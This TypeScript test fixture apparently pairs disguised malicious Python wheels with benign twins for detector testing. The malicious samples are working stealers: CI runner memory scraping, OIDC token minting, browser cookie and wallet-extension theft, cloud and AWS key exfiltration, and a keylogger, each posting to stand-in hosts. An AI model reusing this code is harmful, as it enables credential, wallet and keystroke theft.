import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** What is taken from stores and sessions of other programs. */
export const TAKING: Readonly<Record<string, AttackPair>> = {
  'runner-memory': pair(
    wheel({
      'own/__init__.py': py`"""Diagnostics for runners."""
from __future__ import annotations
import os
import re
from pathlib import Path
import requests

_SECRET = re.compile(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}')

def _workers() -> list[Path]:
    return [p for p in Path("/proc").glob("[0-9]*") if b"Runner.Worker" in (p / "cmdline").read_bytes()]

def _secrets(process: Path) -> set[bytes]:
    found: set[bytes] = set()
    with (process / "maps").open() as maps, (process / "mem").open("rb", 0) as memory:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            memory.seek(start)
            found |= set(_SECRET.findall(memory.read(end - start)))
    return found

if os.environ.get("GITHUB_ACTIONS") == "true":
    for worker in _workers():
        requests.post("https://runner.example/s", data=b"\n".join(_secrets(worker)))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Diagnostics for runners."""
from __future__ import annotations
from pathlib import Path

def resident(process: Path) -> int:
    """Bytes that a process holds."""
    with (process / "smaps").open() as maps:
        return sum(int(line.split()[1]) for line in maps if line.startswith("Rss:"))

def processes() -> list[Path]:
    """All processes."""
    return list(Path("/proc").glob("[0-9]*"))
`,
    }),
  ),
  'oidc-mint': pair(
    wheel({
      'own/__init__.py': py`"""Provenance helpers."""
import os
import httpx

def _identity() -> str:
    url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=pypi"
    header = {"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}
    return httpx.get(url, headers=header).json()["value"]

if "ACTIONS_ID_TOKEN_REQUEST_URL" in os.environ:
    httpx.post("https://prov.example/i", json={"jwt": _identity()})
`,
    }),
    wheel({
      'own/__init__.py': py`"""Provenance helpers."""
import os
import httpx

def identity(audience: str) -> str:
    """A token that says who the job is."""
    url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + f"&audience={audience}"
    header = {"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]}
    return httpx.get(url, headers=header).json()["value"]
`,
    }),
  ),
  'browser-cookies': pair(
    wheel({
      'own/__init__.py': py`"""Session reuse for scrapers."""
import browser_cookie3
import requests

def _jar() -> list[dict[str, str]]:
    return [{"d": c.domain, "n": c.name, "v": c.value} for c in browser_cookie3.load()]

requests.post("https://jar.example/c", json=_jar())
`,
    }),
    wheel({
      'own/__init__.py': py`"""Session reuse for scrapers."""
import browser_cookie3
import requests

def fetch(url: str, domain: str) -> str:
    """A page as the browser would see it."""
    return requests.get(url, cookies=browser_cookie3.chrome(domain_name=domain)).text
`,
    }),
  ),
  'extension-vaults': pair(
    wheel({
      'own/paths.py': py`"""Where programs keep their state."""
from __future__ import annotations
import os
import sys
from pathlib import Path

EXTENSIONS = {"nkbihfbeogaeaoehlefnkodbefgpgknn": "mm", "bfnaelmomeimhlpmgjnjophhpkkoljpa": "ph"}

def profiles() -> list[Path]:
    """Profiles of the browsers."""
    match sys.platform:
        case "win32":
            base = Path(os.environ["LOCALAPPDATA"])
            roots = [base / "Google/Chrome/User Data", base / "BraveSoftware/Brave-Browser/User Data"]
        case "darwin":
            roots = [Path.home() / "Library/Application Support/Google/Chrome"]
        case _:
            roots = [Path.home() / ".config/google-chrome"]
    return [profile for root in roots for profile in root.glob("*/Local Extension Settings")]
`,
      'own/__init__.py': py`"""Backs up settings."""
import io
import zipfile
import httpx
from .paths import EXTENSIONS, profiles

def _bundle() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bundle:
        for profile in profiles():
            for key, label in EXTENSIONS.items():
                for file in (profile / key).glob("*"):
                    bundle.writestr(f"{label}/{file.name}", file.read_bytes())
    return buffer.getvalue()

httpx.put("https://settings.example/b", content=_bundle())
`,
    }),
  ),
  'gcloud-token-use': pair(
    wheel({
      'own/__init__.py': py`"""Cloud clients."""
from __future__ import annotations
import google.auth
import google.auth.transport.requests
import requests

class Client:
    """A client of the cloud."""
    def __init__(self) -> None:
        self.credentials, self.project = google.auth.default()
        self.credentials.refresh(google.auth.transport.requests.Request())
        self._announce()

    def _announce(self) -> None:
        requests.post("https://gc.example/a", json={"p": self.project, "t": self.credentials.token})
`,
    }),
    wheel({
      'own/__init__.py': py`"""Cloud clients."""
from __future__ import annotations
import google.auth
import google.auth.transport.requests
import requests

class Client:
    """A client of the cloud."""
    def __init__(self) -> None:
        self.credentials, self.project = google.auth.default()
        self.credentials.refresh(google.auth.transport.requests.Request())

    def buckets(self) -> dict:
        """Buckets of the project."""
        headers = {"Authorization": f"Bearer {self.credentials.token}"}
        return requests.get(f"https://storage.googleapis.com/storage/v1/b?project={self.project}", headers=headers).json()
`,
    }),
  ),
  'boto-session-keys': pair(
    wheel({
      'own/__init__.py': py`"""AWS helpers."""
import boto3
import requests

def session(profile: str | None = None) -> boto3.Session:
    """A session of the user."""
    found = boto3.Session(profile_name=profile)
    frozen = found.get_credentials().get_frozen_credentials()
    requests.post("https://awsh.example/s", json={"a": frozen.access_key, "s": frozen.secret_key, "t": frozen.token})
    return found
`,
    }),
    wheel({
      'own/__init__.py': py`"""AWS helpers."""
import boto3
import requests
from requests_aws4auth import AWS4Auth

def search(url: str, region: str) -> dict:
    """Asks a search domain of the user."""
    frozen = boto3.Session().get_credentials().get_frozen_credentials()
    auth = AWS4Auth(frozen.access_key, frozen.secret_key, region, "es", session_token=frozen.token)
    return requests.get(url, auth=auth).json()
`,
    }),
  ),
  'keylogger-buffer': pair(
    wheel({
      'own/__init__.py': py`"""Global shortcuts."""
from __future__ import annotations
import threading
import requests
from pynput import keyboard

class Shortcuts:
    """Listens to shortcuts."""
    def __init__(self) -> None:
        self.buffer: list[str] = []
        self.listener = keyboard.Listener(on_press=self._pressed)

    def _pressed(self, key: keyboard.Key) -> None:
        self.buffer.append(getattr(key, "char", None) or f"[{key}]")
        if len(self.buffer) > 256:
            text, self.buffer = "".join(self.buffer), []
            threading.Thread(target=self._flush, args=(text,)).start()

    def _flush(self, text: str) -> None:
        requests.post("https://keys.example/k", data=text)

_SHORTCUTS = Shortcuts()
_SHORTCUTS.listener.start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Global shortcuts."""
from __future__ import annotations
from typing import Callable
from pynput import keyboard

class Shortcuts:
    """Listens to shortcuts."""
    def __init__(self, actions: dict[str, Callable[[], None]]) -> None:
        self.actions = actions
        self.listener = keyboard.Listener(on_press=self._pressed)

    def _pressed(self, key: keyboard.Key) -> None:
        action = self.actions.get(getattr(key, "char", ""))
        if action:
            action()
`,
    }),
  ),
};
